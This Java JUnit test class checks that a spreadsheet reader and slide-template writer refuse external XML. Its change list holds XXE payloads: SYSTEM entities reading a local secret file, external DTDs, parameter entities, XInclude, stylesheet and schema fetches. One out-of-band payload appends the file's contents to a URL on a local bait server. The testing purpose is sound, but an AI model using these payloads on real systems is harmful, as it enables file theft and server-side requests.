package io.bridgehead.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.bridgehead.export.Brief;
import io.bridgehead.export.Samples;
import io.bridgehead.export.office.BadTemplateException;
import io.bridgehead.export.office.FigureSlides;
import io.bridgehead.figure.Lang;
import io.bridgehead.ingest.table.FileTables;
import io.bridgehead.ingest.table.Limits;
import io.bridgehead.ingest.table.TableFormat;
import io.bridgehead.ingest.table.UnreadableFileException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** XML that leads out of its file, in each part of each kind of file that is read: nobody goes there. */
class ExternalXmlTest {
    private static final String SECRET = "THE-SECRET-OF-ANOTHER-FILE";

    @TempDir
    private Path folder;

    private Bait bait;
    private Path secret;

    @BeforeEach
    void lay() throws IOException {
        bait = new Bait();
        secret = Files.writeString(folder.resolve("secret.txt"), SECRET);
    }

    @AfterEach
    void nobodyCame() {
        assertThat(bait.visits()).isEmpty();
        bait.close();
    }

    @Test
    void workbooks() throws IOException {
        var parts = Inside.entries(workbook());
        assertThat(parts).hasSizeGreaterThan(5);
        for (var part : parts.keySet()) {
            for (var change : changes()) {
                for (var charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16)) {
                    assertThat(read(with(parts, part, change, charset)))
                            .as("%s %s", part, change)
                            .doesNotContain(SECRET, "bait");
                }
            }
        }
    }

    @Test
    void partsThatAreElsewhere() throws IOException {
        var parts = Inside.entries(workbook());
        for (var target :
                List.of(bait.url("sheet.xml"), secret.toUri().toString(), "//127.0.0.1:" + bait.port() + "/x")) {
            for (var part : parts.keySet().stream()
                    .filter(name -> name.endsWith(".rels"))
                    .toList()) {
                var away = new LinkedHashMap<>(parts);
                away.put(
                        part,
                        text(parts, part)
                                .replaceAll("Target=\"[^\"]*\"", "Target=\"" + target + "\" TargetMode=\"External\"")
                                .getBytes(StandardCharsets.UTF_8));
                assertThat(read(zip(away))).doesNotContain(SECRET, "bait");
            }
        }
    }

    /** As a page, and as XML of old: what isn't a workbook isn't read as one. */
    @Test
    void otherXml() throws IOException {
        for (var change : changes()) {
            for (var body : List.of(
                    "<html><body><table><tr><td>&e;</td></tr></table></body></html>", "<Workbook>&e;</Workbook>")) {
                for (var name : List.of("a.xml", "a.html", "a.xls", "a.csv", "a.svg")) {
                    var xml = "<?xml version=\"1.0\"?>" + change.head() + body;
                    assertThat(read(name, xml.getBytes(StandardCharsets.UTF_8))).doesNotContain(SECRET, "bait");
                }
            }
        }
    }

    @Test
    void templates() throws IOException {
        var brief = Brief.of(Samples.figure(Samples.RANKING), Lang.ZH);
        var parts = Inside.entries(new FigureSlides().write(brief, null));
        var used = parts.keySet().stream()
                .filter(name -> name.endsWith(".xml") || name.endsWith(".rels"))
                .filter(name -> !name.matches(".*slideLayout([2-9]|1\\d)\\.xml.*"))
                .toList();
        assertThat(used).hasSizeGreaterThan(10);
        for (var part : used) {
            for (var change : changes()) {
                assertThat(written(brief, with(parts, part, change, StandardCharsets.UTF_8)))
                        .as("%s %s", part, change)
                        .doesNotContain(SECRET, "bait");
            }
        }
    }

    /** Pictures, links, sounds and objects that a template has elsewhere. */
    @Test
    void whatATemplateHasElsewhere() throws IOException {
        var brief = Brief.of(Samples.figure(Samples.RANKING), Lang.ZH);
        var parts = Inside.entries(new FigureSlides().write(brief, null));
        var kinds = List.of(
                "image", "hyperlink", "video", "audio", "oleObject", "theme", "slideLayout", "attachedTemplate");
        for (var part : parts.keySet().stream()
                .filter(name -> name.endsWith(".rels") && !name.matches(".*slideLayout([2-9]|1\\d)\\.xml.*"))
                .toList()) {
            for (var kind : kinds) {
                var away = new LinkedHashMap<>(parts);
                var relation = "<Relationship Id=\"away\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
                        + "\" Target=\"" + bait.url(kind) + "\" TargetMode=\"External\"/>";
                away.put(
                        part,
                        text(parts, part)
                                .replace("</Relationships>", relation + "</Relationships>")
                                .getBytes(StandardCharsets.UTF_8));
                fetchesNothingWhenOpened(brief, zip(away));
            }
        }
    }

    /** A link waits to be clicked; whatever else is elsewhere would be fetched by whoever opens the slides. */
    private static void fetchesNothingWhenOpened(Brief brief, byte[] template) {
        try {
            Inside.entries(new FigureSlides().write(brief, template)).forEach((name, content) -> {
                if (name.endsWith(".rels")) {
                    assertThat(Inside.elements(content))
                            .filteredOn(relation ->
                                    relation.getAttribute("TargetMode").equals("External"))
                            .extracting(relation -> name + " " + relation.getAttribute("Type"))
                            .allMatch(relation -> relation.endsWith("/hyperlink"));
                }
            });
        } catch (BadTemplateException e) {
            assertThat(e.sentence().en()).isNotBlank();
        }
    }

    /** What stands before the first element, and what stands for the first text or within the first element. */
    private record Change(String head, String body) {}

    private List<Change> changes() {
        var file = secret.toUri().toString();
        var address = bait.url("x.dtd");
        return List.of(
                new Change("<!DOCTYPE x [<!ENTITY e SYSTEM \"" + file + "\">]>", "&e;"),
                new Change("<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "\">]>", "&e;"),
                new Change("<!DOCTYPE x SYSTEM \"" + address + "\">", ""),
                new Change("<!DOCTYPE x PUBLIC \"-//x\" \"" + address + "\">", ""),
                new Change("<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + address + "\"> %p;]>", ""),
                new Change(
                        "<!DOCTYPE x [<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % p \"<!ENTITY e SYSTEM '" + address
                                + "?%f;'>\"> %p;]>",
                        "&e;"),
                new Change("<?xml-stylesheet type=\"text/xsl\" href=\"" + address + "\"?>", ""),
                new Change(
                        "",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"" + file
                                + "\"/>"),
                new Change(
                        "",
                        "<s xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x "
                                + address + "\" xsi:noNamespaceSchemaLocation=\"" + address + "\"/>"));
    }

    /** The rows of a file, or why there are none. */
    private String read(byte[] file) throws IOException {
        return read("a.xlsx", file);
    }

    private String read(String name, byte[] file) throws IOException {
        var path = Files.write(folder.resolve(name), file);
        var said = new StringBuilder();
        try (var table = FileTables.open(path, name, TableFormat.DETECT, Limits.DEFAULT)) {
            for (var row = table.next(); row != null; row = table.next()) {
                said.append(row);
            }
        } catch (UnreadableFileException e) {
            said.append(e.found()).append(e.expected().in(Lang.EN));
        }
        return said.toString();
    }

    /** All text of the slides that are made with a template, or why none are. */
    private static String written(Brief brief, byte[] template) {
        try {
            var said = new StringBuilder();
            Inside.entries(new FigureSlides().write(brief, template)).forEach((name, content) -> {
                if (name.endsWith(".xml")) {
                    said.append(new String(content, StandardCharsets.UTF_8));
                }
            });
            return said.toString();
        } catch (BadTemplateException e) {
            return e.sentence().en();
        }
    }

    private static byte[] with(Map<String, byte[]> parts, String part, Change change, Charset charset)
            throws IOException {
        var changed = new LinkedHashMap<>(parts);
        var xml = text(parts, part).replaceFirst("^<\\?xml[^>]*\\?>\\s*", "");
        var end = xml.indexOf('>') + 1;
        var open = xml.charAt(end - 2) != '/';
        var head = "<?xml version=\"1.0\" encoding=\"" + charset.name() + "\"?>" + change.head();
        changed.put(
                part,
                (head + xml.substring(0, end) + (open ? change.body() : "") + xml.substring(end)).getBytes(charset));
        return zip(changed);
    }

    private static String text(Map<String, byte[]> parts, String part) {
        return new String(parts.getOrDefault(part, new byte[0]), StandardCharsets.UTF_8);
    }

    private static byte[] workbook() throws IOException {
        try (var workbook = new XSSFWorkbook();
                var bytes = new ByteArrayOutputStream()) {
            var row = workbook.createSheet("数据").createRow(0);
            row.createCell(0).setCellValue("period");
            row.createCell(1).setCellValue("partner");
            workbook.write(bytes);
            return bytes.toByteArray();
        }
    }

    private static byte[] zip(Map<String, byte[]> parts) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        }
        return bytes.toByteArray();
    }
}
